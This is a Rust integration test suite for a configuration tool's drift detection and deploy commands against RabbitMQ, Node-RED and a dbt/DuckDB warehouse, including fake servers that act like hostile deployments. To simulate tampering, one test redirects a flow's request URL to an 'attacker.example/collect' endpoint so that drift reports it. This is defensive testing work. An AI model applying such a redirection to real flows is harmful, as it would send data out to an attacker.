//! `wireplan drift` and `wireplan deploy` for real. A RabbitMQ with its
//! management plugin (Debian's `rabbitmq-server`, started by the test on
//! private ports with its own HOME, epmd and enabled-plugins file, stopped
//! by pid) and a Node-RED 4.1 (from `.tools/`, with the admin API behind a
//! token) start empty; `deploy` fills them and `drift` is empty; then the
//! test deletes a queue, raises a policy's delivery limit, adds a binding
//! nobody declared and edits one flow's target URL through the admin API,
//! and `drift` reports exactly those four, with their places in the spec;
//! `deploy --prune` restores them and `drift` is empty again. For the ETL
//! target, dbt builds the example on DuckDB, then a model's table is
//! dropped and `drift` reports it, and a data test removed from the
//! project too. Without runtimes, a fake server answers
//! what a broken or hostile deployment would (HTML, garbage, another
//! vhost, a refusal, a huge or endless body, a TLS port) and each is a
//! clear exit 2 with no secret printed.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::broker_node::{Extras, Rabbit};
use crate::hub::{free_port, http, node_red_js};
use crate::util::{TempSpec, base64, code, root, stderr, stdout};

const BROKER_EXAMPLE: &str = "examples/high-volume-retail";
const HUB_EXAMPLE: &str = "examples/hub-studio";
const VHOST: &str = "tidewater-outfitters";
const ADMIN_PASSWORD: &str = "drift-admin-Pa55word";
const NODE_RED_TOKEN: &str = "drift-token-4f1c9e27b6";
const NODE_RED_READ_TOKEN: &str = "drift-read-token-8d2a61";

/// The lines of the hub's `settings.js` that offer the admin API behind a
/// token (the README's "drift and deploy" shows them).
const ADMIN_HELPERS: &str = r#"// The admin API, for `wireplan drift` and `wireplan deploy`: off unless
// WIREPLAN_ADMIN_TOKEN is set; then at /admin, behind that bearer token
// (and WIREPLAN_ADMIN_READ_TOKEN, when set, may only read).
function sameSecret(a, b) {
    const digest = (s) => crypto.createHash("sha256").update(String(s)).digest();
    return crypto.timingSafeEqual(digest(a), digest(b));
}
function adminUser(token) {
    const full = process.env.WIREPLAN_ADMIN_TOKEN;
    const read = process.env.WIREPLAN_ADMIN_READ_TOKEN;
    if (full && sameSecret(token, full)) return { username: "wireplan", permissions: "*" };
    if (read && sameSecret(token, read)) return { username: "wireplan-read", permissions: "read" };
    return null;
}
"#;
const ADMIN_SETTINGS: &str = r#"    httpAdminRoot: process.env.WIREPLAN_ADMIN_TOKEN ? "/admin" : false,
    adminAuth: process.env.WIREPLAN_ADMIN_TOKEN
        ? { type: "credentials", users: [], tokens: (token) => Promise.resolve(adminUser(token)) }
        : undefined,"#;

/// A RabbitMQ node with the management plugin, on private ports, and an
/// administrator of the test's own (guest is for localhost only, and its
/// password is known to everyone).
struct Managed(Rabbit);

impl Managed {
    fn start(dir: &Path) -> Managed {
        let rabbit = Managed(Rabbit::start_with(dir, "drift", &Extras { management: true, ..Extras::default() }));
        for args in
            [&["add_user", "drift-admin", ADMIN_PASSWORD][..], &["set_user_tags", "drift-admin", "administrator"]]
        {
            let done = rabbit.ctl(args);
            assert_eq!(code(&done), 0, "{}{}", stdout(&done), stderr(&done));
        }
        let start = Instant::now();
        while rabbit.api("GET", "/api/whoami", "").0 != 200 {
            assert!(start.elapsed() < Duration::from_secs(60), "no management API:\n{}", rabbit.0.log());
            std::thread::sleep(Duration::from_millis(200));
        }
        rabbit
    }

    fn ctl(&self, args: &[&str]) -> Output {
        self.0.ctl(args)
    }

    fn port(&self) -> u16 {
        self.0.management.unwrap()
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port())
    }

    /// A request to the management API as the test's administrator.
    fn api(&self, method: &str, path: &str, body: &str) -> (u16, String) {
        let auth = format!("Basic {}", base64(&format!("drift-admin:{ADMIN_PASSWORD}")));
        http(self.port(), method, path, &[("Authorization", &auth), ("Content-Type", "application/json")], body)
            .unwrap_or((0, String::new()))
    }
}

/// A Node-RED with the hub example's settings (admin API behind the
/// token) and no flows, on a port the test knows; killed by pid on drop.
struct Hub {
    child: Child,
    port: u16,
    log: PathBuf,
}

impl Hub {
    fn start(work: &TempSpec) -> Hub {
        let out = work.dir.join("hub-out");
        let built = crate::util::wireplan()
            .args(["build", HUB_EXAMPLE, "--target", "hub", "--out"])
            .arg(&out)
            .current_dir(root())
            .output()
            .unwrap();
        assert_eq!(code(&built), 0, "{}", stderr(&built));
        let user_dir = work.dir.join("node-red");
        std::fs::create_dir_all(&user_dir).unwrap();
        // The generated settings offer the admin API behind a token, as built.
        let settings = std::fs::read_to_string(out.join("node-red/settings.js")).unwrap();
        assert!(settings.contains(ADMIN_HELPERS) && settings.contains(ADMIN_SETTINGS), "{settings}");
        std::fs::write(user_dir.join("settings.js"), &settings).unwrap();
        std::fs::write(user_dir.join("flows.json"), "[]").unwrap();
        // Every variable the flows require, pointing nowhere.
        let required = settings.split("const REQUIRED_ENV = ").nth(1).unwrap().split(';').next().unwrap();
        let required: Vec<String> = serde_json::from_str(required).unwrap();
        let port = free_port();
        let log = user_dir.join("node-red.log");
        let file = std::fs::File::create(&log).unwrap();
        let mut cmd = Command::new("node");
        cmd.arg(node_red_js())
            .arg("--settings")
            .arg(user_dir.join("settings.js"))
            .arg("--userDir")
            .arg(&user_dir)
            .arg("--port")
            .arg(port.to_string())
            .env("WIREPLAN_ADMIN_TOKEN", NODE_RED_TOKEN)
            .env("WIREPLAN_ADMIN_READ_TOKEN", NODE_RED_READ_TOKEN)
            .env("WIREPLAN_DATA_DIR", user_dir.join("data"))
            .stdin(Stdio::null())
            .stdout(file.try_clone().unwrap())
            .stderr(file);
        for name in required {
            cmd.env(name, "http://127.0.0.1:9/nowhere");
        }
        let hub = Hub { child: cmd.spawn().unwrap(), port, log };
        let start = Instant::now();
        while hub.admin("GET", "/admin/flows", "").0 != 200 {
            assert!(start.elapsed() < Duration::from_secs(60), "no admin API within 60 s:\n{}", hub.log());
            std::thread::sleep(Duration::from_millis(200));
        }
        hub
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/admin", self.port)
    }

    fn admin(&self, method: &str, path: &str, body: &str) -> (u16, String) {
        let auth = format!("Bearer {NODE_RED_TOKEN}");
        let headers = [
            ("Authorization", auth.as_str()),
            ("Content-Type", "application/json"),
            ("Node-RED-API-Version", "v1"),
            ("Node-RED-Deployment-Type", "full"),
        ];
        http(self.port, method, path, &headers, body).unwrap_or((0, String::new()))
    }
}

impl Drop for Hub {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `wireplan ARGS` from the repository root, with the deployments'
/// credentials in the environment.
fn run(args: &[&str]) -> Output {
    crate::util::wireplan()
        .args(args)
        .current_dir(root())
        .env("WIREPLAN_RABBITMQ_USER", "drift-admin")
        .env("WIREPLAN_RABBITMQ_PASSWORD", ADMIN_PASSWORD)
        .env("WIREPLAN_NODE_RED_TOKEN", NODE_RED_TOKEN)
        .env("WIREPLAN_AMQP_PASSWORD", "connector-Pa55word")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// `drift --format json`, checked against the committed schema; returns
/// the report and the exit code.
fn drift_json(example: &str, target: &str, url: &str) -> (Value, i32) {
    let out = run(&["drift", example, "--target", target, "--url", url, "--format", "json"]);
    assert!([0, 1].contains(&code(&out)), "{}{}", stdout(&out), stderr(&out));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let schema: Value =
        serde_json::from_str(&std::fs::read_to_string(root().join("schemas/drift.schema.json")).unwrap()).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator.iter_errors(&report).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "{errors:?}\n{report:#}");
    for secret in [ADMIN_PASSWORD, NODE_RED_TOKEN] {
        assert!(!stdout(&out).contains(secret) && !stderr(&out).contains(secret));
    }
    (report, code(&out))
}

/// Each finding as (change, kind, name, file of its place).
fn summary(report: &Value) -> Vec<(String, String, String, String)> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let s = |v: &Value| v.as_str().unwrap_or_default().to_owned();
            (s(&f["change"]), s(&f["kind"]), s(&f["name"]), s(&f["place"]["file"]))
        })
        .collect()
}

fn deploy(example: &str, target: &str, url: &str, prune: bool) -> Output {
    let mut args = vec!["deploy", example, "--target", target, "--url", url, "--yes"];
    if prune {
        args.push("--prune");
    }
    let out = run(&args);
    assert_eq!(code(&out), 0, "deploy failed:\n{}{}", stdout(&out), stderr(&out));
    out
}

/// The SARIF log is valid against the official 2.1.0 schema (from
/// `@microsoft/jest-sarif` in `.tools/`, with the fix of its one typo that
/// `formats.rs` explains).
fn assert_official_sarif(log: &Value) {
    let tools = std::env::var_os("WIREPLAN_TOOLS").map_or_else(|| root().join(".tools"), PathBuf::from);
    let path = tools.join("node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json");
    let text = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e}: run `scripts/test.sh`, which installs the SARIF tools", path.display()));
    let text = text.replace(r#""^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$""#, r#""^[a-zA-Z]{2}(-[a-zA-Z]{2})?$""#);
    let schema: Value = serde_json::from_str(&text).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator.iter_errors(log).map(|e| format!("{e} at {}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}");
}

#[test]
#[ignore = "needs a real runtime: `scripts/test.sh` installs it and runs this test"]
fn deploy_restores_what_was_changed_by_hand_on_the_broker_and_the_hub() {
    let work = TempSpec::new("drift-e2e");
    let rabbit = Managed::start(&work.dir);
    let hub = Hub::start(&work);

    // Empty deployments: everything is missing; without a terminal and
    // without --yes, deploy refuses.
    let (report, exit) = drift_json(BROKER_EXAMPLE, "broker", &rabbit.url());
    assert_eq!(exit, 1);
    assert_eq!(
        summary(&report),
        [("missing".into(), "vhost".into(), VHOST.into(), "examples/high-volume-retail/wireplan.kdl".into())]
    );
    let refused = run(&["deploy", BROKER_EXAMPLE, "--target", "broker", "--url", &rabbit.url()]);
    assert_eq!(code(&refused), 2, "{}", stderr(&refused));
    assert!(stderr(&refused).contains("pass --yes"), "{}", stderr(&refused));

    deploy(BROKER_EXAMPLE, "broker", &rabbit.url(), false);
    deploy(HUB_EXAMPLE, "hub", &hub.url(), false);
    assert_eq!(
        drift_json(BROKER_EXAMPLE, "broker", &rabbit.url()),
        (
            json!({"version": 1, "target": "broker", "deployment": rabbit.url(), "findings": [], "summary": {"missing": 0, "extra": 0, "changed": 0, "ignored": 0}}),
            0
        )
    );
    assert_eq!(drift_json(HUB_EXAMPLE, "hub", &hub.url()).1, 0);
    // The connectors' user logs in with the password deploy gave it.
    let login = rabbit.ctl(&["authenticate_user", "wireplan", "connector-Pa55word"]);
    assert_eq!(code(&login), 0, "{}{}", stdout(&login), stderr(&login));

    // Four changes by hand, through the APIs.
    let (status, _) = rabbit.api("DELETE", &format!("/api/queues/{VHOST}/order-to-erp"), "");
    assert_eq!(status, 204);
    let (status, policy) = rabbit.api("GET", &format!("/api/policies/{VHOST}/order-to-crm"), "");
    assert_eq!(status, 200);
    let mut policy: Value = serde_json::from_str(&policy).unwrap();
    let declared_limit = policy["definition"]["delivery-limit"].as_u64().unwrap();
    policy["definition"]["delivery-limit"] = json!(declared_limit + 20);
    let (status, _) = rabbit.api("PUT", &format!("/api/policies/{VHOST}/order-to-crm"), &policy.to_string());
    assert!((200..300).contains(&status), "{status}");
    let (status, _) = rabbit.api(
        "POST",
        &format!("/api/bindings/{VHOST}/e/shopify/q/order-to-crm"),
        r#"{"routing_key": "order.unknown", "arguments": {}}"#,
    );
    assert_eq!(status, 201);
    let (status, flows) = hub.admin("GET", "/admin/flows", "");
    assert_eq!(status, 200);
    let mut flows: Value = serde_json::from_str(&flows).unwrap();
    let request = flows
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|n| n["type"] == "http request")
        .expect("a flow sends an http request");
    let edited_id = request["id"].as_str().unwrap().to_owned();
    request["url"] = json!("http://attacker.example/collect");
    let (status, _) = hub.admin("POST", "/admin/flows", &flows.to_string());
    assert!((200..300).contains(&status), "{status}: {}", hub.log());

    // Exactly those four, with their places.
    let (report, exit) = drift_json(BROKER_EXAMPLE, "broker", &rabbit.url());
    assert_eq!(exit, 1);
    assert_eq!(
        summary(&report),
        [
            ("extra".into(), "binding".into(), "shopify -> order-to-crm order.unknown".into(), String::new()),
            (
                "changed".into(),
                "policy".into(),
                "order-to-crm".into(),
                "examples/high-volume-retail/teams/customer.kdl".into()
            ),
            (
                "missing".into(),
                "queue".into(),
                "order-to-erp".into(),
                "examples/high-volume-retail/teams/commerce.kdl".into()
            ),
        ],
        "{report:#}"
    );
    let findings = report["findings"].as_array().unwrap();
    assert_eq!(
        findings[1]["differences"],
        json!([{"path": "definition.delivery-limit", "declared": declared_limit, "deployed": declared_limit + 20}])
    );
    assert_eq!(findings[2]["with"], json!([{"kind": "binding", "name": "shopify -> order-to-erp order.created"}]));
    // The places are the flows' names in the spec.
    for (finding, flow) in [(&findings[1], "order-to-crm"), (&findings[2], "order-to-erp")] {
        let file = std::fs::read_to_string(root().join(finding["place"]["file"].as_str().unwrap())).unwrap();
        let line = file.lines().nth(finding["place"]["line"].as_u64().unwrap() as usize - 1).unwrap();
        assert!(line.contains(&format!("flow \"{flow}\"")), "{line}");
    }
    let (report, exit) = drift_json(HUB_EXAMPLE, "hub", &hub.url());
    assert_eq!(exit, 1);
    let findings = report["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 1, "{report:#}");
    assert_eq!(
        (&findings[0]["change"], &findings[0]["kind"], &findings[0]["name"]),
        (&json!("changed"), &json!("node"), &json!(edited_id))
    );
    assert_eq!(
        findings[0]["differences"],
        json!([{"path": "url", "declared": "", "deployed": "http://attacker.example/collect"}])
    );
    assert_eq!(findings[0]["place"]["file"], "examples/hub-studio/wireplan.kdl");
    // The other formats say the same.
    let human = run(&["drift", BROKER_EXAMPLE, "--target", "broker", "--url", &rabbit.url()]);
    assert_eq!(code(&human), 1);
    assert!(stdout(&human).contains("~ changed  policy order-to-crm"), "{}", stdout(&human));
    assert!(stdout(&human).contains("1 missing, 1 extra, 1 changed"), "{}", stdout(&human));
    let again = run(&["drift", BROKER_EXAMPLE, "--target", "broker", "--url", &rabbit.url()]);
    assert_eq!(human.stdout, again.stdout, "the same deployment gives byte-identical output");
    let markdown =
        run(&["drift", BROKER_EXAMPLE, "--target", "broker", "--url", &rabbit.url(), "--format", "markdown"]);
    assert!(
        stdout(&markdown)
            .contains("| changed | policy | `order-to-crm` | `examples/high-volume-retail/teams/customer.kdl:"),
        "{}",
        stdout(&markdown)
    );
    let github = run(&["drift", HUB_EXAMPLE, "--target", "hub", "--url", &hub.url(), "--format", "github"]);
    assert!(stdout(&github).starts_with("::error file=examples/hub-studio/wireplan.kdl,line="), "{}", stdout(&github));
    let sarif = run(&["drift", BROKER_EXAMPLE, "--target", "broker", "--url", &rabbit.url(), "--format", "sarif"]);
    let sarif: Value = serde_json::from_slice(&sarif.stdout).unwrap();
    assert_eq!(sarif["runs"][0]["results"].as_array().unwrap().len(), 3);
    assert_official_sarif(&sarif);
    // An ignore file hides the binding, and only it.
    let ignore = work.file("drift-ignore", "# accepted: a consumer of our own\nbinding shopify -> order-to-crm *\n");
    let ignored = run(&[
        "drift",
        BROKER_EXAMPLE,
        "--target",
        "broker",
        "--url",
        &rabbit.url(),
        "--format",
        "json",
        "--ignore",
        ignore.to_str().unwrap(),
    ]);
    let ignored: Value = serde_json::from_slice(&ignored.stdout).unwrap();
    assert_eq!(ignored["summary"], json!({"missing": 1, "extra": 0, "changed": 1, "ignored": 1}));

    // The read-only token reads, and may not deploy: nothing changes.
    let read_only = |args: &[&str]| {
        crate::util::wireplan()
            .args(args)
            .current_dir(root())
            .env("WIREPLAN_NODE_RED_TOKEN", NODE_RED_READ_TOKEN)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let read = read_only(&["drift", HUB_EXAMPLE, "--target", "hub", "--url", &hub.url()]);
    assert_eq!(code(&read), 1, "{}", stderr(&read));
    let refused = read_only(&["deploy", HUB_EXAMPLE, "--target", "hub", "--url", &hub.url(), "--yes"]);
    assert_eq!(code(&refused), 2, "{}", stderr(&refused));
    assert!(stderr(&refused).contains("refused the token"), "{}", stderr(&refused));
    assert!(!stderr(&refused).contains(NODE_RED_READ_TOKEN));
    assert_eq!(drift_json(HUB_EXAMPLE, "hub", &hub.url()).1, 1);

    // Deploy without --prune keeps the binding it did not create.
    let kept = run(&["deploy", BROKER_EXAMPLE, "--target", "broker", "--url", &rabbit.url(), "--yes"]);
    assert_eq!(code(&kept), 1, "{}", stderr(&kept));
    assert!(stderr(&kept).contains("created queue order-to-erp") && stderr(&kept).contains("--prune removes it"));
    deploy(BROKER_EXAMPLE, "broker", &rabbit.url(), true);
    deploy(HUB_EXAMPLE, "hub", &hub.url(), false);
    assert_eq!(drift_json(BROKER_EXAMPLE, "broker", &rabbit.url()).1, 0);
    assert_eq!(drift_json(HUB_EXAMPLE, "hub", &hub.url()).1, 0);
    let (_, policy) = rabbit.api("GET", &format!("/api/policies/{VHOST}/order-to-crm"), "");
    assert_eq!(serde_json::from_str::<Value>(&policy).unwrap()["definition"]["delivery-limit"], json!(declared_limit));
}

#[test]
#[ignore = "needs a real runtime: `scripts/test.sh` installs it and runs this test"]
fn a_model_dropped_from_the_warehouse_is_reported() {
    use crate::etl::{LIMIT, bounded, dbt, ok, venv};
    let venv = venv();
    let work = TempSpec::new("drift-etl");
    let out = work.dir.join("out");
    let built = crate::util::wireplan()
        .args(["build", BROKER_EXAMPLE, "--target", "etl", "--out"])
        .arg(&out)
        .current_dir(root())
        .output()
        .unwrap();
    assert_eq!(code(&built), 0, "{}", stderr(&built));
    let dir = out.join("dbt");
    let db = work.dir.join("warehouse.duckdb");
    let db_text = db.to_string_lossy().into_owned();
    let env = [("DBT_TARGET", "duckdb"), ("DBT_DUCKDB_PATH", db_text.as_str())];
    let seeded = bounded(
        Command::new(venv.join("bin/python"))
            .arg(root().join("tests/fixtures/etl/seed.py"))
            .arg(&db)
            .arg(root().join("tests/fixtures/etl/high-volume-retail.json")),
        LIMIT,
    );
    ok(&seeded, "seeding DuckDB");
    ok(&dbt(&venv, &dir, &env, &["build"]), "dbt build");
    ok(&dbt(&venv, &dir, &env, &["docs", "generate"]), "dbt docs generate");
    let drift = |format: &str| {
        crate::util::wireplan()
            .args(["drift", BROKER_EXAMPLE, "--target", "etl", "--dbt-project"])
            .arg(&dir)
            .args(["--format", format])
            .current_dir(root())
            .output()
            .unwrap()
    };
    let clean = drift("human");
    assert_eq!(code(&clean), 0, "{}{}", stdout(&clean), stderr(&clean));

    let script =
        "import duckdb, sys\ncon = duckdb.connect(sys.argv[1])\ncon.execute('drop table analytics.raw_orders')";
    ok(&bounded(Command::new(venv.join("bin/python")).args(["-c", script]).arg(&db), LIMIT), "dropping a model");
    ok(&dbt(&venv, &dir, &env, &["docs", "generate"]), "dbt docs generate");
    let dropped = drift("json");
    assert_eq!(code(&dropped), 1, "{}", stderr(&dropped));
    let report: Value = serde_json::from_slice(&dropped.stdout).unwrap();
    assert_eq!(
        summary(&report),
        [(
            "missing".into(),
            "model".into(),
            "raw_orders".into(),
            "examples/high-volume-retail/teams/commerce.kdl".into()
        )],
        "{report:#}"
    );
    // A data test removed from the project (its `unique` on the order id):
    // the spec still declares it.
    let sources = dir.join("models/sources.yml");
    let yml = std::fs::read_to_string(&sources).unwrap();
    let edited = yml.replacen("            data_tests:\n              - \"unique\"\n", "            data_tests:\n", 1);
    assert_ne!(edited, yml, "the example declares a unique test");
    std::fs::write(&sources, edited).unwrap();
    ok(&dbt(&venv, &dir, &env, &["parse"]), "dbt parse");
    let report: Value = serde_json::from_slice(&drift("json").stdout).unwrap();
    assert_eq!(
        summary(&report),
        [
            (
                "missing".into(),
                "model".into(),
                "raw_orders".into(),
                "examples/high-volume-retail/teams/commerce.kdl".into()
            ),
            (
                "missing".into(),
                "test".into(),
                "shopify.order.order_id unique".into(),
                "examples/high-volume-retail/teams/commerce.kdl".into()
            ),
        ],
        "{report:#}"
    );
    // Without the catalog, it cannot compare, and says how to get one.
    std::fs::remove_file(dir.join("target/catalog.json")).unwrap();
    let missing = drift("human");
    assert_eq!(code(&missing), 2);
    assert!(stderr(&missing).contains("dbt docs generate"), "{}", stderr(&missing));
}

/// What a fake server answers to a request for a path.
type Answer = fn(&str) -> Vec<u8>;

/// Serves each connection with `answer(request_path)`, forever (the
/// thread ends with the test binary).
fn fake_server(answer: Answer) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            std::thread::spawn(move || {
                let request = read_request(&mut stream);
                // The answer is chosen by path; a change (not a GET) by "METHOD path".
                let mut words = request.split_whitespace();
                let method = words.next().unwrap_or("");
                let path = words.next().unwrap_or("");
                let path = if method == "GET" { path.to_owned() } else { format!("{method} {path}") };
                let _ = stream.write_all(&answer(&path));
            });
        }
    });
    port
}

/// The whole request, its body included: a server that answered after the
/// first read and closed with the body unread would make the kernel reset
/// the connection, and the client might see the reset before the answer.
fn read_request(stream: &mut std::net::TcpStream) -> String {
    let mut request = Vec::new();
    let mut buf = [0u8; 8192];
    loop {
        let n = stream.read(&mut buf).unwrap_or(0);
        request.extend_from_slice(&buf[..n]);
        let text = String::from_utf8_lossy(&request);
        if let Some(end) = text.find("\r\n\r\n") {
            let length = text[..end]
                .lines()
                .find_map(|l| l.split_once(':').filter(|(k, _)| k.eq_ignore_ascii_case("content-length")))
                .and_then(|(_, v)| v.trim().parse::<usize>().ok())
                .unwrap_or(0);
            if request.len() >= end + 4 + length {
                return text.into_owned();
            }
        }
        if n == 0 {
            return text.into_owned();
        }
    }
}

fn answer(status: &str, content_type: &str, body: &str) -> Vec<u8> {
    format!("HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
        .into_bytes()
}

#[test]
fn hostile_deployments_are_a_clear_exit_2_without_secrets() {
    let cases: [(Answer, &str); 7] = [
        (|_| answer("200 OK", "text/html", "<html><body>Sign in</body></html>"), "HTML page"),
        (|_| answer("200 OK", "application/json", "{\"name\": "), "not JSON"),
        (|_| answer("401 Unauthorized", "application/json", "{}"), "refused the credentials (401)"),
        (
            |p| match p {
                "/api/whoami" => answer("200 OK", "application/json", r#"{"name":"a"}"#),
                _ => answer("200 OK", "application/json", r#"{"name":"someone-else"}"#),
            },
            "another vhost",
        ),
        (
            |p| match p {
                "/api/whoami" => answer("200 OK", "application/json", r#"{"name":"a"}"#),
                "/api/vhosts/tidewater-outfitters" => {
                    answer("200 OK", "application/json", r#"{"name":"tidewater-outfitters"}"#)
                }
                _ => answer("200 OK", "application/json", r#"{"queues":[{"name":"q","vhost":"staging"}]}"#),
            },
            "definitions of the vhost \"staging\"",
        ),
        (
            |_| {
                let mut huge = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n[".to_vec();
                huge.resize(huge.len() + (65 << 20), b' ');
                huge
            },
            "larger than 64 MiB",
        ),
        (|_| b"\x15\x03\x03\x00\x02\x02\x46".to_vec(), "TLS"),
    ];
    for (serve, expected) in cases {
        let port = fake_server(serve);
        let out = crate::util::wireplan()
            .args(["drift", BROKER_EXAMPLE, "--target", "broker", "--url", &format!("http://127.0.0.1:{port}")])
            .current_dir(root())
            .env("WIREPLAN_RABBITMQ_USER", "ops")
            .env("WIREPLAN_RABBITMQ_PASSWORD", ADMIN_PASSWORD)
            .output()
            .unwrap();
        let text = stderr(&out);
        assert_eq!(code(&out), 2, "{expected}: {text}");
        assert!(text.contains(expected), "expected {expected:?} in: {text}");
        assert!(stdout(&out).is_empty(), "{}", stdout(&out));
        assert!(!text.contains(ADMIN_PASSWORD) && !text.contains("panicked"), "{text}");
    }
    // A server that never answers is a timeout, within the bound.
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port();
    let started = Instant::now();
    let out = crate::util::wireplan()
        .args([
            "drift",
            HUB_EXAMPLE,
            "--target",
            "hub",
            "--timeout",
            "2",
            "--url",
            &format!("http://127.0.0.1:{port}/admin"),
        ])
        .current_dir(root())
        .output()
        .unwrap();
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("no answer in time"), "{}", stderr(&out));
    assert!(started.elapsed() < Duration::from_secs(30));
    drop(silent);
    // Credentials in the URL, https, a missing variable: refused before any request.
    for (url, expected) in [
        ("http://ops:hunter2secret@127.0.0.1:1", "the URL holds credentials"),
        ("https://127.0.0.1:1", "https is not supported"),
    ] {
        let out = run(&["drift", BROKER_EXAMPLE, "--target", "broker", "--url", url]);
        assert_eq!(code(&out), 2);
        assert!(stderr(&out).contains(expected) && !stderr(&out).contains("hunter2secret"), "{}", stderr(&out));
    }
    let out = crate::util::wireplan()
        .args(["drift", BROKER_EXAMPLE, "--target", "broker", "--url", "http://127.0.0.1:1"])
        .current_dir(root())
        .env_remove("WIREPLAN_RABBITMQ_PASSWORD")
        .output()
        .unwrap();
    assert_eq!(code(&out), 2);
    assert!(stderr(&out).contains("WIREPLAN_RABBITMQ_PASSWORD"), "{}", stderr(&out));
    // A deploy that fails midway says what it applied and that the
    // deployment is partial.
    let port = fake_server(|p| match p {
        "/api/whoami" => answer("200 OK", "application/json", r#"{"name":"ops"}"#),
        "/api/vhosts/tidewater-outfitters" => {
            answer("200 OK", "application/json", r#"{"name":"tidewater-outfitters"}"#)
        }
        "/api/definitions/tidewater-outfitters" => answer("200 OK", "application/json", "{}"),
        "/api/vhosts/tidewater-outfitters/permissions" => answer("200 OK", "application/json", "[]"),
        "PUT /api/users/wireplan" => answer("201 Created", "application/json", ""),
        p if p.starts_with("PUT /api/permissions/") => {
            answer("500 Internal Server Error", "application/json", r#"{"reason":"disk alarm"}"#)
        }
        _ => answer("404 Not Found", "application/json", r#"{"error":"Object Not Found"}"#),
    });
    let out = crate::util::wireplan()
        .args(["deploy", BROKER_EXAMPLE, "--target", "broker", "--yes", "--url", &format!("http://127.0.0.1:{port}")])
        .current_dir(root())
        .env("WIREPLAN_RABBITMQ_USER", "ops")
        .env("WIREPLAN_RABBITMQ_PASSWORD", ADMIN_PASSWORD)
        .output()
        .unwrap();
    let text = stderr(&out);
    assert_eq!(code(&out), 2, "{text}");
    assert!(text.contains("created user wireplan"), "{text}");
    assert!(text.contains("HTTP 500: disk alarm"), "{text}");
    assert!(text.contains("stopped after 1 change(s); it is partly applied"), "{text}");
    assert!(!text.contains("created queue"), "nothing after the failure: {text}");
    // A Node-RED without an admin API.
    let port = fake_server(|_| answer("404 Not Found", "text/html", "<pre>Cannot GET /flows</pre>"));
    let out = run(&["drift", HUB_EXAMPLE, "--target", "hub", "--url", &format!("http://127.0.0.1:{port}")]);
    assert_eq!(code(&out), 2);
    assert!(stderr(&out).contains("has no admin API"), "{}", stderr(&out));
}
